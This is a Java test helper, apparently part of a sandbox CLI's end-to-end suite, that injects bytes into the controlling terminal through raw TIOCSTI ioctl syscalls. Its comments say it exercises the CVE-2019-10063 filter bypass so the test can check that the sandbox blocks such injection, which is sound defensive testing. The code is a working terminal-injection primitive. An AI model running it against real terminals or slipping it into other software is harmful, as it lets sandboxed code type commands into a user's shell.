package dev.ralon.cli;

import com.sun.jna.LastErrorException;
import com.sun.jna.Native;

import java.nio.charset.StandardCharsets;

/**
 * The attacker of {@link TerminalInjectionE2ETest}, run inside the sandbox (or plainly, as the control):
 * {@code TiocstiInjector REQUEST TEXT [REQUEST TEXT ...]} pushes every byte of TEXT into the input queue of the
 * terminal on descriptor 0 with {@code ioctl(0, REQUEST, &byte)} and prints {@code IOCTL REQUEST errno=N} (0: every
 * byte went in). REQUEST is hexadecimal and passed to the kernel with all 64 bits (raw syscall(2), no libc wrapper
 * that could truncate it), so {@code 100005412} tests the CVE-2019-10063 bypass of a filter comparing 64 bits.
 */
public final class TiocstiInjector {
    static final class LibC {
        static {
            Native.register(LibC.class, "c");
        }

        static native long syscall(long number, long fd, long request, byte[] arg) throws LastErrorException;
    }

    /** ioctl's number: arch/x86/entry/syscalls/syscall_64.tbl (16), include/uapi/asm-generic/unistd.h (29). */
    static final long SYS_IOCTL = isArm64(System.getProperty("os.arch", "")) ? 29 : 16;

    private TiocstiInjector() {
    }

    /**
     * 64-bit ARM, which the JVM names {@code aarch64} (some builds {@code arm64}); the same rule as Ralon's LinuxAbi.
     * This program runs alone (its own class files and JNA on the class path), so it cannot use LinuxAbi itself.
     */
    static boolean isArm64(String osArch) {
        String a = osArch.toLowerCase(java.util.Locale.ROOT);
        return a.equals("aarch64") || a.equals("arm64");
    }

    public static void main(String[] args) {
        for (int i = 0; i + 1 < args.length; i += 2) {
            long request = Long.parseUnsignedLong(args[i], 16);
            byte[] text = args[i + 1].replace("\\n", "\n").getBytes(StandardCharsets.UTF_8);
            int errno = 0;
            for (byte b : text) {
                try {
                    LibC.syscall(SYS_IOCTL, 0, request, new byte[] {b});
                } catch (LastErrorException e) {
                    errno = e.getErrorCode();
                    break;
                }
            }
            System.out.println("IOCTL " + args[i] + " errno=" + errno);
        }
        System.out.flush();
    }
}
